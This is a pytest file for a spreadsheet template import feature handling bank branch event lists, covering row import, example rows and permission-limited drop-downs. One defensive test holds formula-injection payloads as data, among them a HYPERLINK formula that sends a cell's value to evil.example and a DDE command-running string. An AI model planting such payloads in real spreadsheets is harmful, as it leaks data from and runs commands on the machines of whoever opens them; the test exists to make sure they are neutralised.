"""The empty list: what is filled into it goes in, what stands there as an example does not."""

import io

import openpyxl
import pytest

from exchange.columns import column_of
from exchange.table import read_table
from exchange.template import template_bytes
from exchange.upload import Action, import_rows, preview
from locales import LANGUAGES, speaking
from models.count import Count
from models.draft import EventDraft
from models.permission import COORDINATOR
from models.viewer import Viewer
from store.database import Database
from store.events import read_event, save_event
from store.units import save_unit
from tests.exchange.lists import counts, events


@pytest.fixture
def branch(ledger: Database, viewer: Viewer) -> int:
    """A branch with two sub-branches."""
    above = save_unit(ledger, viewer, name="分行").id
    assert above is not None
    for name in ("甲支行", "乙支行"):
        save_unit(ledger, viewer, name=name, parent_id=above)
    return above


def filled(content: bytes, *rows: dict[str, str]) -> bytes:
    book = openpyxl.load_workbook(io.BytesIO(content))
    sheet = book.worksheets[0]
    keys = {}
    for cell in sheet[1]:
        column = column_of(str(cell.value))
        assert column is not None, cell.value
        keys[column.key] = cell.column
    for number, row in enumerate(rows, start=4):
        for key, text in row.items():
            sheet.cell(number, keys[key]).value = text
    made = io.BytesIO()
    book.save(made)
    return made.getvalue()


def offered(content: bytes, key: str) -> list[str]:
    """The words that the drop-down list of a column offers."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    sheet = book.worksheets[0]
    for cell in sheet[1]:
        column = column_of(str(cell.value))
        if column is None or column.key != key:
            continue
        for validation in sheet.data_validations.dataValidation:
            if f"{cell.column_letter}2" in str(validation.sqref):
                name, _, area = str(validation.formula1).rpartition("!")
                return [str(c.value) for (c,) in book[name.strip("'")][area.replace("$", "")]]
    return []


@pytest.mark.usefixtures("branch")
@pytest.mark.parametrize("language", LANGUAGES)
def test_two_events_filled_in_are_two_good_rows(ledger: Database, viewer: Viewer, language: str) -> None:
    content = template_bytes(ledger, viewer, None, language)
    with speaking(language):
        venue, topics = offered(content, "venue_type")[0], offered(content, "topics")
        told = {"organisation": "甲支行", "venue_type": venue, "topics": "；".join(topics[:2]), "attendance": "60余"}
        content = filled(
            content, {"title": "讲座", "when": "2024-09-04", **told}, {"title": "设摊", "when": "2024年9月", **told}
        )
        previewed = preview(ledger, viewer, read_table(content, "list.xlsx"))
    assert [(row.number, row.action) for row in previewed.rows] == [(4, Action.NEW), (5, Action.NEW)]
    assert counts(import_rows(ledger, viewer, previewed)) == (2, 0, 0)
    draft = read_event(ledger, viewer, events(ledger, viewer)[0].id)
    assert draft is not None
    assert (draft.attendance is not None and draft.attendance.value, len(draft.topics)) == (60, 2)
    assert isinstance(draft.attendance, Count)


@pytest.mark.usefixtures("branch")
@pytest.mark.parametrize("language", LANGUAGES)
def test_the_examples_are_never_taken_in(ledger: Database, viewer: Viewer, language: str) -> None:
    content = template_bytes(ledger, viewer, None, language)
    with speaking(language):
        previewed = preview(ledger, viewer, read_table(content, "list.xlsx"))
    assert previewed.rows == ()


def test_only_units_one_records_for_are_offered(ledger: Database, viewer: Viewer, branch: int) -> None:
    assert offered(template_bytes(ledger, viewer, branch, "zh_CN"), "organisation") == ["分行", "甲支行", "乙支行"]
    own = Viewer.holding("wang", COORDINATOR, f"{branch}/{branch + 1}/")
    assert offered(template_bytes(ledger, own, branch, "zh_CN"), "organisation") == ["甲支行"]
    assert offered(template_bytes(ledger, own, branch + 2, "zh_CN"), "organisation") == []


RUN = ['=HYPERLINK("https://evil.example/?"&B5,"3·15")', "+cmd|'/c calc'!A1", "@SUM(1)", "https://a.example/"]


def test_no_name_becomes_a_formula_in_anybodys_list(ledger: Database, viewer: Viewer) -> None:
    units = {name: save_unit(ledger, viewer, name=name).id or 0 for name in ("甲支行", "乙支行", "=1+1")}
    for name in (*RUN, "金融消保在身边"):
        assert save_event(
            ledger, viewer, EventDraft(title="讲座", organisation=units["甲支行"], campaigns=(name,))
        ).done
    other = Viewer.holding("li", COORDINATOR, f"{units['乙支行']}/")
    for who in (viewer, other):
        content = template_bytes(ledger, who, None, "zh_CN")
        cells = [cell for sheet in openpyxl.load_workbook(io.BytesIO(content)) for row in sheet for cell in row]
        assert not [cell.value for cell in cells if cell.data_type == "f" or cell.hyperlink]
        assert set(offered(content, "campaigns")) & {*RUN, "金融消保在身边"} == {"https://a.example/", "金融消保在身边"}
    assert offered(template_bytes(ledger, viewer, None, "zh_CN"), "organisation") == ["甲支行", "乙支行"]
